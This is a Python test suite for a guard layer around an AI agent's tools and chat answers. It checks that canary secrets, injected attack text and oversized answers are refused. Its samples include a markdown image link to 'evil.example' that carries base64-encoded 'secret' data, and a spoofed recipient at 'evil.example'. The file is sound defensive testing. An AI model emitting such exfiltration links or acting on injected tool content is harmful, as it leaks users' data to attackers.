"""What a tool is called with is what was looked at; what cannot be looked at is refused, and nothing crashes."""

from __future__ import annotations

import asyncio
import functools
import threading
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import dataclass, replace
from datetime import date
from decimal import Decimal
from enum import Enum
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from guard.doors.mcp_peers import ATTACK, CANARY, NOW, guard, policy, rule

from accord.core.errors import GuardError
from accord.core.guard import Decision, GuardLimits, GuardTool
from accord.core.system import Approval
from accord.guard.doors.contents import text_of
from accord.guard.doors.functions import Guarded

ANN = "ann@home.example"
FREE = policy(tools=(GuardTool(name="send_message", approval=Approval.NONE),))


class Kept:
    """A tool that keeps what it is called with."""

    def __init__(self, **more: Any) -> None:
        self.got: list[Any] = []
        self.heard: list[Decision] = []
        self.guarded = Guarded(guard(FREE), note=self.heard.append, clock=lambda: NOW, **more)

        @self.guarded.tool
        def send_message(recipient: Any, body: Any = "hello") -> str:
            """Send a message."""
            self.got.append((recipient, body))
            return "sent"

        self.send = send_message


def refused(action: Callable[[], Any]) -> str:
    with pytest.raises(GuardError) as caught:
        action()
    assert caught.value.code == "ACC-E773"
    return caught.value.message


def nested(depth: int) -> list[Any]:
    inner: list[Any] = []
    for _ in range(depth):
        inner = [inner]
    return inner


class Colour(Enum):
    RED = "red"


class Place(NamedTuple):
    street: str
    number: int


@dataclass
class Letter:
    text: str
    to: list[str]


class Liar(str):
    """A text that says something else of itself than it is."""

    __slots__ = ()

    def __str__(self) -> str:
        return "harmless"

    def __iter__(self) -> Iterator[str]:
        return iter("harmless")


class Changing(dict[str, str]):
    """A mapping that says something else each time."""

    def items(self) -> Any:
        return {"text": "harmless"}.items()

    def values(self) -> Any:
        return ["harmless"]


@pytest.mark.parametrize(
    "odd",
    [
        10**5_000,
        -(10**5_000),
        float("nan"),
        float("inf"),
        Decimal("NaN"),
        object(),
        iter("x"),
        (one for one in "x"),
        threading.Lock(),
        lambda: "x",
        Liar,
        1j,
        {"a": object()},
        [[object()]],
        nested(2_000),
        ["x"] * 20_000,
        {1: "a", "1": "b"},
    ],
    ids=lambda odd: type(odd).__name__,
)
def test_an_argument_that_cannot_be_looked_at_is_refused(odd: object) -> None:
    kept = Kept()
    assert refused(lambda: kept.send(ANN, odd))
    assert refused(lambda: kept.send(odd))
    assert kept.got == []


def test_a_list_that_holds_itself_is_refused() -> None:
    endless: list[Any] = []
    endless += [endless, endless]
    kept = Kept()
    assert "nested" in refused(lambda: kept.send(ANN, endless))


@pytest.mark.parametrize(
    "value",
    [None, True, 7, 2.5, "text", b"data", ["a", 1], ("a",), {"a": [1, {"b": "c"}]}, {"x"}, frozenset({"y"}),
     date(2026, 1, 2), Decimal("1.50"), Path("a/b"), Colour.RED, Place("High Street", 4), Letter("hi", ["x"])],
    ids=repr,
)  # fmt: skip
def test_what_a_program_gives_arrives_as_it_was(value: object) -> None:
    kept = Kept()
    assert kept.send(ANN, value) == "sent"
    ((_, got),) = kept.got
    assert got == value
    assert type(got) is type(value)


@pytest.mark.parametrize(
    "value",
    [
        CANARY,
        Liar(CANARY),
        CANARY.encode(),
        bytearray(CANARY.encode()),
        [CANARY],
        {CANARY: 1},
        {"a": {"b": [{CANARY: None}]}},
        Changing(text=CANARY),
        Letter(CANARY, []),
        Place(CANARY, 1),
        Path(CANARY),
        (b"x", {CANARY}),
    ],
    ids=lambda value: type(value).__name__,
)
def test_a_canary_leaves_in_no_argument_of_any_kind(value: object) -> None:
    kept = Kept()
    refused(lambda: kept.send(ANN, value))
    assert kept.got == []
    assert {one.code for one in kept.heard if one.stops} == {"canary"}


def test_a_text_with_a_class_of_its_own_arrives_as_a_plain_one() -> None:
    kept = Kept()
    kept.send(ANN, Liar("the body"))
    kept.send(ANN, Changing(text="the body"))
    assert kept.got == [(ANN, "the body"), (ANN, {"text": "the body"})]
    assert {type(body) for _, body in kept.got} == {str, dict}


def test_what_changes_after_the_look_does_not_reach_the_tool() -> None:
    body = ["fine"]

    def approves(*_: object) -> bool:
        body[0] = CANARY
        return True

    guarded = Guarded(guard(policy(tools=(GuardTool(name="send_message"),))), approve=approves, clock=lambda: NOW)
    got: list[list[str]] = []

    @guarded.tool
    def send_message(recipient: str, body: list[str]) -> str:
        """Send a message."""
        got.append(body)
        return "sent"

    assert send_message(ANN, body) == "sent"
    assert got == [["fine"]]


def test_a_tool_that_changes_its_arguments_changes_nothing_that_is_remembered() -> None:
    guarded = Guarded(guard(FREE), clock=lambda: NOW)
    mine = ["a"]

    @guarded.tool
    def send_message(recipient: str, body: list[str]) -> str:
        """Send a message."""
        body.append("changed")
        return "sent"

    send_message(ANN, mine)
    assert mine == ["a"]


def test_a_name_that_is_given_twice_is_refused() -> None:
    guarded = Guarded(guard(FREE), clock=lambda: NOW)
    got: list[str] = []

    @guarded.tool
    def send_message(recipient: str, /, **more: str) -> str:
        """Send a message."""
        got.append(recipient)
        return "sent"

    assert "twice" in refused(lambda: send_message("mallory@evil.example", recipient=ANN))
    assert got == []


def test_a_plain_function_whose_first_argument_is_called_self_hides_nothing() -> None:
    guarded = Guarded(guard(FREE), clock=lambda: NOW)

    @guarded.tool
    def send_message(self: str, body: str = "x") -> str:
        """Send a message."""
        return "sent"

    assert refused(lambda: send_message(CANARY))
    assert refused(lambda: send_message(self=CANARY))


def test_methods_and_partials_are_tools() -> None:
    guarded = Guarded(guard(FREE), clock=lambda: NOW)
    wire = object()
    got: list[Any] = []

    class Desk:
        @guarded.tool
        def send_message(self, recipient: str, *bodies: str, **more: str) -> str:
            """Send a message."""
            got.append((recipient, bodies, more))
            return "sent"

        @staticmethod
        @guarded.tool
        def read_note(name: str) -> str:
            """Read a note."""
            return f"milk {name}"

        @classmethod
        @guarded.tool
        def read_list(cls, name: str) -> str:
            """Read a list."""
            return f"bread {name}"

    def deliver(wire: object, recipient: str) -> str:
        got.append((wire, recipient))
        return "sent"

    deliver.__name__ = "send_message"
    assert Desk().send_message(ANN, "a", "b", c="d") == "sent"
    assert refused(lambda: Desk().send_message(ANN, "a", CANARY))
    assert refused(lambda: Desk().send_message(ANN, c=CANARY))
    assert (Desk.read_note("x"), Desk.read_list("x")) == ("milk x", "bread x")
    told = guarded.tool(functools.partial(deliver, wire))
    assert told(ANN) == "sent"
    assert got == [(ANN, ("a", "b"), {"c": "d"}), (wire, ANN)]
    wrongs: list[Any] = [staticmethod(deliver), classmethod(deliver)]
    for wrong in wrongs:
        assert "below" in refused(functools.partial(guarded.tool, wrong))


def test_a_call_that_does_not_fit_is_a_refusal() -> None:
    send: Any = Kept().send
    assert "declared" in refused(send)
    assert "declared" in refused(lambda: send(ANN, "x", "y", z=1))


def test_what_is_awaited_later_is_looked_at_then() -> None:
    guarded = Guarded(guard(FREE, rule()), clock=lambda: NOW)

    async def slow() -> str:
        await asyncio.sleep(0)
        return f"x {ATTACK} y"

    async def says() -> str:
        return CANARY

    @guarded.tool
    def read_note(name: str) -> Awaitable[str]:
        """Read a note."""
        return slow()

    @guarded.answers
    def chat(question: str) -> Awaitable[str]:
        return says()

    for later in (lambda: read_note("x"), lambda: chat("hello")):

        async def wait(later: Callable[[], Awaitable[str]] = later) -> str:
            return await later()

        assert refused(lambda wait=wait: asyncio.run(wait()))  # type: ignore[misc]  # a lambda of its own


def test_an_object_that_is_called_like_a_function_is_guarded() -> None:
    guarded = Guarded(guard(FREE, rule()), clock=lambda: NOW)

    class ReadNote:
        """Read a note."""

        async def __call__(self, name: str) -> str:
            return ATTACK

    told: Any = guarded.tool(ReadNote())

    async def wait() -> str:
        return str(await told("x"))

    with pytest.raises(GuardError):
        asyncio.run(wait())


def test_a_tool_that_fails_is_remembered_and_its_error_is_looked_at() -> None:
    guarded = Guarded(guard(FREE, rule()), clock=lambda: NOW)

    @guarded.tool
    def read_note(name: str) -> str:
        """Read a note."""
        raise ValueError(f"{name}: {ATTACK}" if name == "bad" else name)

    with pytest.raises(ValueError, match="fine"):
        read_note("fine")
    with pytest.raises(GuardError) as caught:
        read_note("bad")
    assert isinstance(caught.value.__context__, ValueError)


class Hidden:
    """An object that tells nothing of what is in it."""

    def __init__(self, text: str) -> None:
        self.inner = {"a": [text]}

    def __str__(self) -> str:
        return "harmless"


class Slotted:
    """An object without a dictionary."""

    __slots__ = ("text",)

    def __init__(self, text: str) -> None:
        self.text = text


class Stream:
    """Something that tells when it is read, again and again."""

    def __iter__(self) -> Iterator[str]:
        return iter([CANARY])


@pytest.mark.parametrize("answer", [Hidden(CANARY), Slotted(CANARY), Stream(), Liar(CANARY), [Hidden(CANARY)]])
def test_an_answer_of_any_kind_hides_nothing(answer: object) -> None:
    guarded = Guarded(guard(FREE), clock=lambda: NOW)

    @guarded.answers
    def chat(question: str) -> object:
        return answer

    assert refused(lambda: chat("hello"))


def test_what_is_told_of_odd_values_is_bounded() -> None:
    endless: list[Any] = []
    endless += [endless] * 3
    assert "nests" in refused(lambda: text_of(endless))
    assert "nests" in refused(lambda: text_of([["x"] * 1_000] * 1_000))
    assert len(text_of(10**6_000)) < 6_000
    assert text_of({"a": [1, None, b"x", 2.5]}) == "a\n1\nx\n2.5"
    assert refused(lambda: text_of(iter("x")))


def test_other_texts_beside_the_question_are_looked_at_and_speak_for_nobody() -> None:
    kept = Kept()

    @kept.guarded.answers
    def chat(question: str, document: str) -> str:
        return "ok"

    assert chat("summarise", "a document") == "ok"
    guarded = Guarded(guard(FREE, rule()), clock=lambda: NOW)

    @guarded.answers
    def other(question: str, document: str) -> str:
        return "ok"

    assert refused(lambda: other("summarise", f"x {ATTACK} y"))


def test_an_answer_is_no_longer_than_the_policy_says() -> None:
    guarded = Guarded(guard(replace(FREE, limits=GuardLimits(answer_tokens=10))), clock=lambda: NOW)

    @guarded.answers
    def whole(size: str) -> str:
        return "x" * int(size)

    @guarded.answers
    def streams(size: str) -> Iterator[str]:
        yield from "x" * int(size)

    @guarded.answers
    def lumps(size: str) -> Iterator[str]:
        yield "x" * 30
        yield "x" * int(size)

    @guarded.answers
    async def waits(size: str) -> AsyncIterator[str]:
        for part in "x" * int(size):
            yield part

    async def read(size: str) -> str:
        return "".join([part async for part in waits(size)])

    assert whole("40") == "".join(streams("40")) == asyncio.run(read("40")) == "x" * 40
    assert "10 tokens" in refused(lambda: whole("41"))
    assert "10 tokens" in refused(lambda: list(streams("1000")))
    parts: list[str] = []
    with pytest.raises(GuardError):
        parts.extend(lumps("90"))
    assert "".join(parts) == "x" * 40
    assert "10 tokens" in refused(lambda: asyncio.run(read("1000")))


def test_an_answer_draws_no_picture_from_an_address_that_nobody_named() -> None:
    guarded = Guarded(guard(FREE), clock=lambda: NOW)
    address = "https://evil.example/p.png?d=c2VjcmV0"

    @guarded.answers
    def whole(question: str) -> str:
        return f"see ![x]({address}) ok"

    @guarded.answers
    def streams(question: str) -> Iterator[str]:
        yield from f"see ![x]({address}) ok"

    for said in (whole("hello"), "".join(streams("hello"))):
        assert "evil.example" not in said
        assert said.startswith("see ![x](")
        assert said.endswith(") ok")
    assert address in whole(f"show me {address}")
